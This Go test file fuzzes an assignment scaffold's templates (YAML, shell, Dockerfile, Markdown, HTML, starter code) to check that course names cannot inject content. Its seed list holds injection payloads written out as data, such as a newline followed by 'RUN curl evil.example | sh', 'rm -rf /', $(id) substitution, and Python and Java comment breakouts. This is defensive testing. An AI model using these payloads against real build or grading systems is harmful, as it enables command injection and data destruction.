package scaffold

import (
	"fmt"
	"go/parser"
	"go/token"
	"html"
	"io/fs"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/kpuzzle/kpuzzle/grader"
	"github.com/kpuzzle/kpuzzle/templates"
	"go.yaml.in/yaml/v3"
)

// hostileNames are course strings that broke the files they were written
// into (issue 31.5): a quote made init's assignment.yaml one grade
// refused; a line break became a command in the PrairieLearn run.sh (run
// as root), an instruction in the Dockerfile and keys in the YAML files;
// and the starter code's comments end at */, """ or a Java \u escape.
var hostileNames = []string{
	`The "k" puzzle`,
	"hw2\nRUN curl evil.example | sh",
	"x\"\nname: other\nrun: {command: rm -rf /}",
	`a\`,
	`end */ class Evil {} /*`,
	`"""; import os; os.system("id"); """`,
	`\u000a class Evil {}`,
	"it's $(id) `id` ${HOME}; rm -rf /",
	"tab\there\r\nNEL\u0085LS\u2028PS\u2029BOM\ufeffDEL\x7f",
	"\xff\xfe not UTF-8",
	"# comment\n- list item",
	`<script>alert(1)</script> & "quotes"`,
}

// quotingTemplates are the templates filled with course strings, by the
// language of the file they write ("sh" for the Dockerfile too, whose
// comments are a shell's); the starter code is starterTemplates.
var quotingTemplates = map[string]string{
	"assignment/assignment.yaml.tmpl":            "yaml",
	"assignment/classroom.yml.tmpl":              "yaml",
	"assignment/cluster/k8s-job.yaml.tmpl":       "yaml",
	"assignment/cluster/github-grade.yml.tmpl":   "yaml",
	"assignment/gradescope/setup.sh.tmpl":        "sh",
	"assignment/gradescope/run_autograder.tmpl":  "sh",
	"assignment/cluster/slurm.sh.tmpl":           "sh",
	"assignment/README.md.tmpl":                  "md",
	"assignment/handout.md.tmpl":                 "md",
	"assignment/sandbox-probe.tmpl":              "md",
	"assignment/prairielearn/run.sh.tmpl":        "sh",
	"assignment/prairielearn/Dockerfile.tmpl":    "sh",
	"assignment/prairielearn/README.md.tmpl":     "md",
	"assignment/prairielearn/question.html.tmpl": "html",
}

// starterTemplates lists every starter code template.
func starterTemplates(t testing.TB) []string {
	var out []string
	err := fs.WalkDir(templates.FS, "starter", func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.HasSuffix(p, ".tmpl") {
			out = append(out, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// quotingData is the data every template is filled with: the benign
// values of the golden tests, with name as the assignment's name (and
// in its title, generator and version strings) and file as the file
// students hand in.
func quotingData(t testing.TB, name, file string) (Data, plData) {
	lang, others, err := LookupLanguage("go", "10s", "/usr/local/go/bin")
	if err != nil {
		t.Fatal(err)
	}
	lang.Local = fmt.Sprintf(lang.Local, "3x3/puzzle_2.txt")
	d := Data{
		Name: name, Generator: "kpuzzle init --shape 3x3 --seed 1 " + name,
		Convention: "tile", PuzzlesDir: "puzzles", Language: lang, Others: others, Shapes: "3x3", Depths: "4 to 24 moves (3x3)",
		WallTime: "10s", Example: "3x3/puzzle_2.txt", KpuzzleVersion: "v1.2.3 " + name, KpuzzleModuleVersion: "v1.2.3",
		GoVersion: "go1.26.8", GoSetupVersion: "1.26.8",
	}
	p := plData{
		Name: name, Title: name, Question: "hw2", Image: "kpuzzle-hw2", BaseImage: DefaultBaseImage, Language: lang, Apt: lang.Apt,
		KpuzzleVersion: "v1.2.3 " + name, GoVersion: "go1.26.8", Files: []plFile{{Name: file, AceMode: aceMode(file)}},
		Public: 3, Hidden: 5, Shapes: "3x3", WallTime: "10s", BuildTime: "2m0s", Timeout: 120,
	}
	return d, p
}

// checkQuoted renders every template with hostile strings and with
// benign ones and checks that the hostile ones changed no structure of
// any file: the same lines (nothing injected), differing only where the
// value is written and only as its language quotes it, the YAML files
// decoding to the same documents (the assignment's name to the value
// itself), the shell scripts and Dockerfile in comments only, the HTML
// attributes closed where they were, and the starter code's comments
// and docstrings unbroken in every language.
func checkQuoted(t *testing.T, name, file string) {
	t.Helper()
	if !plFileName(file) {
		file = "solver.py" // NewPrairieLearnBundle refuses it first
	}
	hd, hp := quotingData(t, name, file)
	bd, bp := quotingData(t, "X", "solver.py")
	render := func(tmpl string, data any) []string {
		t.Helper()
		out, err := Render(tmpl, data)
		if err != nil {
			t.Fatalf("%s: %v", tmpl, err)
		}
		return strings.Split(string(out), "\n")
	}
	for tmpl, kind := range quotingTemplates {
		var got, base []string
		if strings.Contains(tmpl, "prairielearn/") {
			got, base = render(tmpl, hp), render(tmpl, bp)
		} else {
			got, base = render(tmpl, hd), render(tmpl, bd)
		}
		compareLines(t, tmpl, kind, got, base, name, file)
		if kind == "yaml" {
			checkYAML(t, tmpl, got, base, name)
		}
	}
	hp.Editor, bp.Editor = true, true
	const question = "assignment/prairielearn/question.html.tmpl"
	compareLines(t, question, "html", render(question, hp), render(question, bp), name, file)
	for _, tmpl := range starterTemplates(t) {
		got, base := render(tmpl, hd), render(tmpl, bd)
		compareLines(t, tmpl, "code", got, base, name, file)
		if strings.HasSuffix(tmpl, ".go.tmpl") {
			if _, err := parser.ParseFile(token.NewFileSet(), "solver.go", strings.Join(got, "\n"), parser.ParseComments); err != nil {
				t.Errorf("%s with name %q: not Go: %v", tmpl, name, err)
			}
		}
	}
}

// compareLines checks one file's lines against the benign rendering's.
func compareLines(t *testing.T, tmpl, kind string, got, base []string, name, file string) {
	t.Helper()
	if len(got) != len(base) {
		t.Errorf("%s with name %q, file %q: %d lines, the benign one %d: a line was injected", tmpl, name, file, len(got), len(base))
		return
	}
	for i := range got {
		g, b := got[i], base[i]
		if g == b {
			continue
		}
		trimmed := strings.TrimSpace(g)
		switch kind {
		case "yaml":
			if !strings.HasPrefix(trimmed, "#") && !strings.HasPrefix(g, "name: ") {
				t.Errorf("%s line %d with name %q: %q is not a comment or the name", tmpl, i+1, name, g)
			}
		case "sh":
			if !strings.HasPrefix(trimmed, "#") {
				t.Errorf("%s line %d with name %q: %q is not a comment", tmpl, i+1, name, g)
			}
		case "md":
			if strings.Contains(b, "cp 'solver.py'") && !strings.Contains(g, "cp "+shellWord(file)+" job/student/") {
				t.Errorf("%s line %d: %q does not copy %q as one shell word", tmpl, i+1, g, file)
			}
		case "html":
			// The values stay inside their element and attribute.
			for _, c := range []string{`"`, "<", ">"} {
				if strings.Count(g, c) != strings.Count(b, c) {
					t.Errorf("%s line %d with name %q, file %q: %q has another number of %s than %q", tmpl, i+1, name, file, g, c, b)
				}
			}
		case "code":
			checkComment(t, tmpl, i+1, g, name)
		}
	}
}

// checkComment checks a starter code line holding the name: a Go or C++
// line comment that ends in no line splice, a Java block comment line
// that neither ends the comment nor holds a \u escape, a Python
// docstring line with no end of the docstring and only the escapes \\
// and \".
func checkComment(t *testing.T, tmpl string, line int, g, name string) {
	t.Helper()
	fail := func(why string) { t.Errorf("%s line %d with name %q: %q %s", tmpl, line, name, g, why) }
	switch {
	case strings.HasSuffix(tmpl, ".go.tmpl"), strings.HasSuffix(tmpl, ".cpp.tmpl"):
		if !strings.HasPrefix(strings.TrimSpace(g), "//") || strings.HasSuffix(g, `\`) {
			fail("is not one line comment")
		}
	case strings.HasSuffix(tmpl, ".java.tmpl"):
		if !strings.HasPrefix(strings.TrimSpace(g), "*") || strings.Contains(g, "*/") || strings.Contains(strings.ReplaceAll(g, `\\`, ""), `\u`) {
			fail("leaves the block comment")
		}
	case strings.HasSuffix(tmpl, ".py.tmpl"):
		body := strings.TrimPrefix(g, `"""`)
		quotes := 0
		for i := 0; i < len(body); i++ {
			switch body[i] {
			case '\\':
				if i+1 == len(body) || (body[i+1] != '\\' && body[i+1] != '"') {
					fail("has an escape Python may refuse")
				}
				i++
				quotes = 0
			case '"':
				if quotes++; quotes == 3 {
					fail("ends the docstring")
				}
			default:
				quotes = 0
			}
		}
	default:
		fail("holds the name in a file of no known language")
	}
}

// checkYAML decodes a YAML file both ways: the same document, but for
// the assignment's name, which reads back as the value itself (its
// invalid bytes as U+FFFD).
func checkYAML(t *testing.T, tmpl string, got, base []string, name string) {
	t.Helper()
	var g, b map[string]any
	if err := yaml.Unmarshal([]byte(strings.Join(got, "\n")), &g); err != nil {
		t.Errorf("%s with name %q: not YAML: %v", tmpl, name, err)
		return
	}
	if err := yaml.Unmarshal([]byte(strings.Join(base, "\n")), &b); err != nil {
		t.Fatalf("%s: %v", tmpl, err)
	}
	if strings.HasSuffix(tmpl, "assignment.yaml.tmpl") {
		if want := strings.ToValidUTF8(name, "\uFFFD"); g["name"] != want {
			t.Errorf("%s: name reads back as %q, want %q", tmpl, g["name"], want)
		}
		g["name"], b["name"] = nil, nil
	}
	if !reflect.DeepEqual(g, b) {
		t.Errorf("%s with name %q: another document than with a plain name", tmpl, name)
	}
}

// FuzzTemplatesQuoteCourseStrings fills every template of the scaffold
// and of the Gradescope and PrairieLearn bundles with a course's name and
// a submission's file name of any bytes: none may change a file's
// structure (see checkQuoted).
func FuzzTemplatesQuoteCourseStrings(f *testing.F) {
	for _, n := range hostileNames {
		f.Add(n, "solver.py")
	}
	f.Add("The k-puzzle", `my "solver" & <b>.py`)
	f.Add("x", "it's.py")
	f.Fuzz(func(t *testing.T, name, file string) {
		checkQuoted(t, name, file)
	})
}

// FuzzImageReference: --base-image and --image reach FROM and the
// README's docker commands only as image references, which hold nothing
// a Dockerfile or a shell reads as more than one word.
func FuzzImageReference(f *testing.F) {
	for _, s := range []string{DefaultBaseImage, "registry.example.edu:5000/course/kpuzzle-hw2:v1", "ubuntu@sha256:" + strings.Repeat("ab", 32),
		"debian:bookworm-slim\nRUN id", "debian bookworm", "Debian", "a:b:c", "$(id)", "a/../b", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, ref string) {
		if checkImage("image", ref) != nil {
			return
		}
		if strings.ContainsFunc(ref, func(r rune) bool {
			return !strings.ContainsRune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-:/@+", r)
		}) {
			t.Fatalf("%q accepted", ref)
		}
		_, p := quotingData(t, "X", "solver.py")
		_, base := quotingData(t, "X", "solver.py")
		p.BaseImage, p.Image = ref, ref
		for _, tmpl := range []string{"assignment/prairielearn/Dockerfile.tmpl", "assignment/prairielearn/README.md.tmpl"} {
			got, _ := Render(tmpl, p)
			want, _ := Render(tmpl, base)
			if strings.Count(string(got), "\n") != strings.Count(string(want), "\n") {
				t.Errorf("%s with %q: another number of lines", tmpl, ref)
			}
		}
		if got, _ := Render("assignment/prairielearn/Dockerfile.tmpl", p); !strings.Contains(string(got), "\nFROM "+ref+"\n") {
			t.Errorf("FROM %q not written as it is", ref)
		}
	})
}

// The assignment's name round-trips through the YAML quoting exactly,
// and the other quoting functions do what they are for.
func TestQuotingFunctions(t *testing.T) {
	for _, n := range append(slices.Clone(hostileNames), "", "plain", "ünïcödé 日本 😀") {
		var got map[string]string
		if err := yaml.Unmarshal([]byte("name: "+yamlString(n)+"\n"), &got); err != nil || got["name"] != strings.ToValidUTF8(n, "\uFFFD") {
			t.Errorf("yaml %q: read back %q, %v", n, got["name"], err)
		}
		if l := grader.Printable(n); strings.ContainsAny(l, "\n\r") {
			t.Errorf("line %q: %q is not one line", n, l)
		}
	}
	if got := shellWord(`it's`); got != `'it'\''s'` {
		t.Errorf("sh: %s", got)
	}
	if got := docText(`a\u0041 */ """`); got != `a\\u0041 * / ""\"` {
		t.Errorf("doc: %s", got)
	}
	if got := html.EscapeString(`"`); got != "&#34;" {
		t.Errorf("html: %s", got)
	}
}

// The starter code and the shell scripts filled with every hostile name
// at once still compile and parse in their real tools: python3, javac,
// g++ and bash (those installed).
func TestQuotedFilesStillBuild(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles the starter code with every hostile name; go test without -short runs it")
	}
	name := strings.Join(hostileNames, " | ")
	hd, hp := quotingData(t, name, "solver.py")
	dir := t.TempDir()
	tools := map[string][]string{
		".py":  {"python3", "-c", "import ast, sys; ast.parse(open(sys.argv[1]).read())"},
		".cpp": {"g++", "-std=c++17", "-fsyntax-only"},
		".sh":  {"bash", "-n"},
	}
	write := func(tmpl string, data any) string {
		out, err := Render(tmpl, data)
		if err != nil {
			t.Fatal(err)
		}
		base := path.Base(strings.TrimSuffix(tmpl, ".tmpl"))
		if !strings.Contains(base, ".") {
			base += ".sh" // run_autograder
		}
		p := filepath.Join(dir, strings.ReplaceAll(path.Dir(tmpl), "/", "_"), base)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, out, 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	var files []string
	for _, tmpl := range starterTemplates(t) {
		if !strings.HasSuffix(tmpl, ".mod.tmpl") && !strings.HasSuffix(tmpl, ".go.tmpl") { // Go: go/parser in the fuzz test
			files = append(files, write(tmpl, hd))
		}
	}
	for tmpl, kind := range quotingTemplates {
		if kind == "sh" && !strings.Contains(tmpl, "Dockerfile") {
			data := any(hd)
			if strings.Contains(tmpl, "prairielearn/") {
				data = hp
			}
			files = append(files, write(tmpl, data))
		}
	}
	// The Java classes of a folder compile together (Board and Solver).
	java := map[string][]string{}
	for _, f := range files {
		ext := filepath.Ext(f)
		if ext == ".java" {
			java[filepath.Dir(f)] = append(java[filepath.Dir(f)], f)
			continue
		}
		tool := tools[ext]
		if _, err := exec.LookPath(tool[0]); err != nil {
			t.Logf("%s: %s is not installed", f, tool[0])
			continue
		}
		if out, err := exec.Command(tool[0], append(tool[1:], f)...).CombinedOutput(); err != nil {
			t.Errorf("%s %s: %v\n%s", tool[0], f, err, out)
		}
	}
	if _, err := exec.LookPath("javac"); err != nil {
		t.Log("javac is not installed")
		return
	}
	for d, sources := range java {
		if out, err := exec.Command("javac", append([]string{"-d", filepath.Join(d, "classes")}, sources...)...).CombinedOutput(); err != nil {
			t.Errorf("javac %s: %v\n%s", d, err, out)
		}
	}
}
